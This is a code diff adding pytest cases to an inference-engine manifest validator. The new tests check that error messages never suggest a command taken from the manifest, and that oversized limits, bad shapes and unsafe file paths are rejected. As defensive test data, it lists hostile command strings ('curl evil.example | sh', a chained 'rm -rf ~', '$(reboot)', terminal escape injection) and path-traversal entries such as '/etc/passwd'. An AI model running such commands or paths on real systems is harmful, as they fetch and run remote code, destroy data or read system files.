@@ -1,9 +1,11 @@
 from __future__ import annotations
 
+import functools
 import json
 import re
 import shutil
 from collections.abc import Callable, Iterator
+from operator import methodcaller
 from pathlib import Path
 from typing import Any
 
@@ -44,7 +46,7 @@ GRAPH = GraphSpec(
 )
 MANIFEST = Manifest(
     target="cpu",
-    model={"vocab_size": 320, "eos_token_ids": [1, 2]},
+    model={"architecture": "llama", "eos_token_ids": [1, 2]},
     limits=EngineLimits(3, 17, 96),
     graphs={"target": GRAPH},
     caches=CACHES,
@@ -112,9 +114,32 @@ def test_another_format(engine: Path, version: object) -> None:
     command = open_engine(engine).manifest.command
     edit(engine, lambda raw: raw.update(format_version=version))
     message = assert_mismatch(
-        lambda: open_engine(engine), f"has format {version}", "reads format 2"
+        lambda: open_engine(engine), f"has format {version!r}", "reads format 2"
     )
     assert message.endswith(command)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl evil.example | sh",
+        "slipstream build x -o y; rm -rf ~",
+        "slipstream build $(reboot) -o y",
+        "slipstream build 'x\x1b[2J' -o y",
+        "slipstream build 'x\n' -o y",
+        "slipstream build 'x",
+        "slipstream quantize x -o y",
+        "",
+    ],
+)
+def test_an_error_suggests_no_command_of_a_stranger(engine: Path, command: str) -> None:
+    (engine / FILES[0]).unlink()
+    changes: list[dict[str, Any]] = [{}, {"format_version": 0}, {"limits": 3}]
+    for change in changes:
+        fields = {**change, "command": command}
+        edit(engine, methodcaller("update", fields))
+        message = assert_mismatch(lambda: open_engine(engine).verify_files(), "build it again")
+        assert message.endswith(f"build it again: slipstream build CHECKPOINT -o {engine}")
 
 
 @pytest.mark.parametrize(
@@ -198,8 +223,81 @@ def test_no_value_of_another_type_passes(tiny_engine: Path, tmp_path: Path) -> N
         holder[key] = was
 
 
+EMPTY: dict[str, Any] = {"limits": {}, "plugins": None, "files": None, "model": {}, "graphs": {}}
+
+
+@pytest.mark.parametrize("field", EMPTY)
+def test_an_empty_field_is_one_sentence(engine: Path, field: str) -> None:
+    edit(engine, lambda raw: raw.update({field: EMPTY[field]}))
+    assert_mismatch(lambda: open_engine(engine), "lacks or misnames a field", field)
+
+
+@pytest.mark.parametrize(
+    "edits",
+    [
+        {"limits": {"max_batch_size": 0, "max_num_tokens": 1, "max_seq_len": 1}},
+        {"limits": {"max_batch_size": 1, "max_num_tokens": 2**31, "max_seq_len": 1}},
+        {"limits": {"max_batch_size": 1, "max_num_tokens": 10**400, "max_seq_len": 1}},
+        {"files": {"../graph.onnx": "0" * 64}},
+        {"files": {"/etc/passwd": "0" * 64}},
+        {"model": {"architecture": 3}},
+    ],
+)
+def test_a_value_out_of_bounds_is_one_sentence(engine: Path, edits: dict[str, Any]) -> None:
+    edit(engine, lambda raw: raw.update(edits))
+    assert_mismatch(lambda: open_engine(engine), "lacks or misnames a field", next(iter(edits)))
+
+
+def test_no_file_goes_without_its_hash(engine: Path) -> None:
+    listed = json.loads((engine / "engine.json").read_text())["files"]
+    for name in FILES:
+        others = {other: digest for other, digest in listed.items() if other != name}
+        edit(engine, functools.partial(dict.update, files=others))
+        opened = open_engine(engine)
+        assert_mismatch(opened.verify_files, f"{name} of the engine {engine} has no hash")
+    edit(engine, lambda raw: raw.update(files={}))
+    assert_mismatch(open_engine(engine).verify_files, "has no hash")
+    edit(engine, lambda raw: raw.update(files=dict.fromkeys(FILES)))
+    assert_mismatch(lambda: open_engine(engine), "files.chat_template.jinja is None")
+
+
+def test_a_file_that_came_later_is_not_read(engine: Path) -> None:
+    (engine / "README.md").write_text("of nobody's interest")
+    open_engine(engine).verify_files()
+    (engine / "special_tokens_map.json").write_text("{}")
+    assert_mismatch(open_engine(engine).verify_files, "special_tokens_map.json of the engine")
+
+
 def no_page_size(raw: dict[str, Any]) -> None:
     raw["caches"][0]["page_size"] = 0
+
+
+def endless_page(raw: dict[str, Any]) -> None:
+    raw["caches"][0]["page_size"] = 2**53
+
+
+def endless_window(raw: dict[str, Any]) -> None:
+    raw["caches"][0]["window"] = 2**31
+
+
+def endless_array(raw: dict[str, Any]) -> None:
+    raw["caches"][0]["arrays"][0]["shape"] = [2**31, 2**31]
+
+
+def layer_below_0(raw: dict[str, Any]) -> None:
+    raw["caches"][0]["layers"][0] = -1
+
+
+def no_vocabulary(raw: dict[str, Any]) -> None:
+    raw["graphs"]["target"]["outputs"][0]["shape"][1] = -1
+
+
+def endless_vocabulary(raw: dict[str, Any]) -> None:
+    raw["graphs"]["target"]["outputs"][0]["shape"][1] = 2**31
+
+
+def logits_without_axes(raw: dict[str, Any]) -> None:
+    raw["graphs"]["target"]["outputs"][0]["shape"] = []
 
 
 def unknown_kind(raw: dict[str, Any]) -> None:
@@ -251,6 +349,13 @@ def no_pages(raw: dict[str, Any]) -> None:
 
 
 DEFECTS: dict[Callable[[dict[str, Any]], None], str] = {
+    endless_page: "cache kv has page_size 9007199254740992 and window 0",
+    endless_window: "cache kv has page_size 32 and window 2147483648",
+    endless_array: "cache kv has an array kv_cache of dtype",
+    layer_below_0: "cache kv has no layers, a layer twice or below 0",
+    no_vocabulary: "output logits has shape ['L', -1], not [L, vocabulary]",
+    endless_vocabulary: "output logits has shape ['L', 2147483648]",
+    logits_without_axes: "output logits has shape [], not",
     no_page_size: "cache kv has page_size 0 and window 0, but is paged",
     unknown_kind: "caches[0].kind is 'latent', not one of paged, state",
     unknown_source: "graphs.target.inputs[0].source is 'tokens', not one of token_ids",
